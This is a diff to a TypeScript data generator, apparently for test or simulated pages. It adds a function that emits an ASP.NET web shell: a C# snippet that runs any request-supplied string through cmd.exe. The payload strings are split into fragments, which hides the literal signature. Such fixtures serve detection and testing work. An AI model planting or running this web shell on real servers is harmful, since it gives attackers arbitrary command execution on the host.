@@ -82,6 +82,22 @@ export function ownPage(random: Random): {
   };
 }
 
+/** A line that starts what it is told, for a page written in C#. */
+export function commandLine(random: Random): string {
+  const key = random.text(ALPHANUMERIC, random.between(3, 9));
+  const ask = ASK('', key);
+  return join(
+    '<%if(',
+    ask,
+    '!=null)System.Diag',
+    'nostics.Proc',
+    'ess.Start("cm',
+    'd.exe","/c "+',
+    ask,
+    ');%>',
+  );
+}
+
 /** What the reset of the address book's directory writes to the path it is given: the directory's settings. */
 export function settingsDump(
   world: World,
